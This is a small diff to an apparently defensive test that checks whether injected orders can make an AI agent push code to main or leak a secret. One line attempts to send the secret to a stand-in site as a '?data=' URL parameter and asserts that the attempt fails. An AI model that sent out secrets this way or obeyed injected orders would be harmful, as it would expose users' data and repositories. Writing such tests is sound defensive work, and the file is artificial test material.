@@ -165,7 +165,7 @@ def test_no_way_of_giving_an_order_gets_a_deed_done(agent: Agent) -> None:
             assert tool("bash", command=f"git add -A {path} && git commit -qm x").ok
             agent.clone.push(f"HEAD:refs/heads/evil-{way}-{path.replace('/', '-')}")
             verdict(agent.git, agent.clone.head)
-            assert "has read the web" in tool("bash", command="git push -q origin HEAD:main").payload, path
+            assert "has read the web" in tool("bash", command="git push -q origin HEAD:main").shown, path
         assert not tool("fetch_page", url=f"{agent.site}/?data={quote(secret)}").ok
         assert agent.harm() == [], way
         agent.begin_anew()
